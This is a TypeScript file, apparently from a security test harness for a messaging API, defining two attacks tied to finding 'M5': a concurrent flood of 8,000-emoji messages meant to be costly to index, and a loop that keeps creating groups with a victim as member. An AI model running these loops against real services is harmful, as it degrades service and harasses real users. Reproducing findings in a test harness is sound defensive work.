import { randomUUID } from 'node:crypto';
import { loop, outcomeOf, type Attack } from '../attackers/attack.ts';
import type { Attacker } from '../attackers/attacker.ts';
import type { HttpAnswer } from '../attackers/http-request.ts';

const groupOfTexts = (attacker: Attacker): Promise<string> => attacker.groupWith('text', 0, () => '');

export const textFlood: Attack = {
  name: 'text-flood',
  finding: 'M5',
  about: 'Sends messages of the longest permitted text in emoji, the most expensive to index, four at once.',
  prepare: groupOfTexts,
  async run(attacker, context) {
    const id = await groupOfTexts(attacker);
    await loop(context, { concurrency: 4, pauseMs: 5 }, async () => {
      context.count(outcomeOf(await attacker.sendText(id, '😀'.repeat(8_000))));
    });
  },
};

export const unwantedGroups: Attack = {
  name: 'unwanted-groups',
  finding: 'M5',
  about: 'Creates group after group with an ordinary person as a member, two at once.',
  async run(attacker, context) {
    const create = (): Promise<HttpAnswer> =>
      attacker.request({
        method: 'POST',
        path: '/v1/conversations',
        token: attacker.token,
        headers: { 'idempotency-key': randomUUID() },
        body: { kind: 'group', title: 'unwanted', memberIds: [attacker.victim.id] },
      });
    await loop(context, { concurrency: 2, pauseMs: 10 }, async () => context.count(outcomeOf(await create())));
  },
};
